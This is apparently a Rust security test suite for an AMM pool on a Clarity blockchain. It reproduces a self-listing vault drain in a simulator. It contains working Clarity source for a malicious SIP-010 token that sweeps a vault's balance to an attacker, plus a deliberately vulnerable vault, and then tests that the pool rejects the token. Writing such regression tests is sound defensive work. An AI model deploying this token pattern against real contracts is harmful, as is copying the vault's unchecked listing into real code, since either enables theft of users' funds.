//! The June 2025 ALEX self-listing drain, as an attack on amm-pool: a malicious
//! SIP-010 whose `transfer` moves whatever its caller holds. It drains a naive
//! shared vault (self-listing, untrusted traits under `as-contract`), and finds no
//! way in through amm-pool's whitelist, trait checks, governance, or router.

use crate::amm_common::*;
use alkahest_clarity::values::{bool as vbool, principal, uint};

const BIG: u128 = 1_000_000 * ONE_8;

/// The attacker's token: a valid SIP-010 whose transfer, when run under a vault's
/// `as-contract`, sends the vault's whole tok-a balance to the attacker.
fn evil_token(deployer: &str, attacker: &str) -> String {
    format!(
        r#"
(impl-trait '{deployer}.sip-010-trait.sip-010-trait)
(define-public (transfer (amount uint) (sender principal) (recipient principal) (memo (optional (buff 34))))
  (let ((loot (unwrap-panic (contract-call? '{deployer}.tok-a get-balance tx-sender))))
    (if (> loot u0)
      (try! (contract-call? '{deployer}.tok-a transfer loot tx-sender '{attacker} none))
      true)
    (ok true)))
(define-read-only (get-name) (ok "LABUBU"))
(define-read-only (get-symbol) (ok "LBB"))
(define-read-only (get-decimals) (ok u8))
(define-read-only (get-balance (who principal)) (ok u1000000000000))
(define-read-only (get-total-supply) (ok u1000000000000))
(define-read-only (get-token-uri) (ok none))
"#
    )
}

/// A naive shared vault in the style that was drained: anyone may list a token, and
/// listed tokens are called under the vault's `as-contract`.
fn naive_vault(deployer: &str) -> String {
    format!(
        r#"
(use-trait ft '{deployer}.sip-010-trait.sip-010-trait)
(define-map listed principal bool)
(define-public (self-list (token principal)) (ok (map-set listed token true)))
(define-public (pay-out (token <ft>) (amount uint))
  (let ((to tx-sender))
    (asserts! (default-to false (map-get? listed (contract-of token))) (err u1))
    (as-contract (contract-call? token transfer amount tx-sender to none))))
"#
    )
}

#[test]
fn self_listing_drain_works_on_a_naive_vault() {
    let (mut sim, a) = market();
    sim.deploy_contract(
        "evil-token",
        &evil_token(&a.deployer, &a.mallory),
        &a.mallory,
    )
    .unwrap();
    sim.deploy_contract("naive-vault", &naive_vault(&a.deployer), &a.deployer)
        .unwrap();
    let vault = sim.contract_id("naive-vault");
    sim.call(
        "tok-a",
        "transfer",
        &[
            uint(BIG),
            principal(&a.alice),
            principal(&vault),
            alkahest_clarity::values::none(),
        ],
        &a.alice,
    )
    .expect_ok();
    let evil = principal(&format!("{}.evil-token", a.mallory));
    sim.call(&vault, "self-list", std::slice::from_ref(&evil), &a.mallory)
        .expect_ok();
    sim.call(&vault, "pay-out", &[evil, uint(1)], &a.mallory)
        .expect_ok();
    assert_eq!(sim.ft_balance("tok-a", &vault), 0);
    assert_eq!(
        sim.ft_balance("tok-a", &a.mallory),
        BIG,
        "the vault was drained"
    );
}

#[test]
fn self_listing_drain_finds_no_way_into_amm_pool() {
    let (mut sim, a) = market();
    let id = create_pool(
        &mut sim, "tok-a", "tok-b", WEIGHTED, HALF, 300_000, 50_000_000,
    );
    add(&mut sim, &a.alice, id, "tok-a", "tok-b", BIG, BIG).expect_ok();
    let id2 = create_pool(
        &mut sim, "tok-b", "tok-c", WEIGHTED, HALF, 300_000, 50_000_000,
    );
    add(&mut sim, &a.alice, id2, "tok-b", "tok-c", BIG, BIG).expect_ok();
    sim.deploy_contract(
        "evil-token",
        &evil_token(&a.deployer, &a.mallory),
        &a.mallory,
    )
    .unwrap();
    let evil = principal(&format!("{}.evil-token", a.mallory));
    let me = pool_principal(&sim);
    let held = sim.ft_balance("tok-a", &me);
    let code = |n: &str| sim.err_code(POOL, n);
    let (unauth, unapproved, mismatch) = (
        code("ERR_NOT_AUTHORIZED"),
        code("ERR_TOKEN_NOT_APPROVED"),
        code("ERR_TOKEN_MISMATCH"),
    );
    // 1. No self-listing: only governance approves tokens and creates pools.
    sim.call(
        POOL,
        "set-token-approved",
        &[evil.clone(), vbool(true)],
        &a.mallory,
    )
    .expect_err(unauth);
    let create = [
        evil.clone(),
        tok(&sim, "tok-a"),
        uint(WEIGHTED),
        uint(HALF),
        uint(0),
        uint(0),
    ];
    sim.call(POOL, "create-pool", &create, &a.mallory)
        .expect_err(unauth);
    sim.call(POOL, "create-pool", &create, &a.deployer)
        .expect_err(unapproved);
    // 2. The evil trait in place of a pool's token, in every position.
    let (ta, tb, tc) = (tok(&sim, "tok-a"), tok(&sim, "tok-b"), tok(&sim, "tok-c"));
    sim.call(
        POOL,
        "swap",
        &[
            uint(id),
            evil.clone(),
            ta.clone(),
            uint(ONE_8),
            uint(0),
            uint(FAR),
        ],
        &a.mallory,
    )
    .expect_err(mismatch);
    sim.call(
        POOL,
        "swap",
        &[
            uint(id),
            tb.clone(),
            evil.clone(),
            uint(ONE_8),
            uint(0),
            uint(FAR),
        ],
        &a.mallory,
    )
    .expect_err(mismatch);
    sim.call(
        POOL,
        "swap",
        &[
            uint(id),
            ta.clone(),
            evil.clone(),
            uint(ONE_8),
            uint(0),
            uint(FAR),
        ],
        &a.mallory,
    )
    .expect_err(mismatch);
    sim.call(
        POOL,
        "add-liquidity",
        &[
            uint(id),
            evil.clone(),
            tb.clone(),
            uint(ONE_8),
            uint(BIG),
            uint(0),
            uint(FAR),
        ],
        &a.mallory,
    )
    .expect_err(mismatch);
    sim.call(
        POOL,
        "remove-liquidity",
        &[
            uint(id),
            ta.clone(),
            evil.clone(),
            uint(1),
            uint(0),
            uint(0),
            uint(FAR),
        ],
        &a.mallory,
    )
    .expect_err(mismatch);
    sim.call(
        POOL,
        "claim-withdrawal",
        &[
            uint(id),
            evil.clone(),
            tb.clone(),
            uint(0),
            uint(0),
            uint(FAR),
        ],
        &a.mallory,
    )
    .expect_err(mismatch);
    // 3. Even governance cannot pay the reserve out through an unapproved token.
    sim.call(
        POOL,
        "withdraw-reserve",
        &[evil.clone(), uint(1), principal(&a.mallory)],
        &a.deployer,
    )
    .expect_err(unapproved);
    // 4. Through the router, as a middle hop.
    let route = [
        ta.clone(),
        evil.clone(),
        tc.clone(),
        uint(id),
        uint(id2),
        uint(ONE_8),
        hop_mins(&[0, 0]),
        uint(0),
        uint(FAR),
    ];
    sim.call(ROUTER, "swap-2", &route, &a.mallory)
        .expect_err(mismatch);
    assert_eq!(sim.ft_balance("tok-a", &me), held);
    assert_eq!(sim.ft_balance("tok-a", &a.mallory), 0);
}
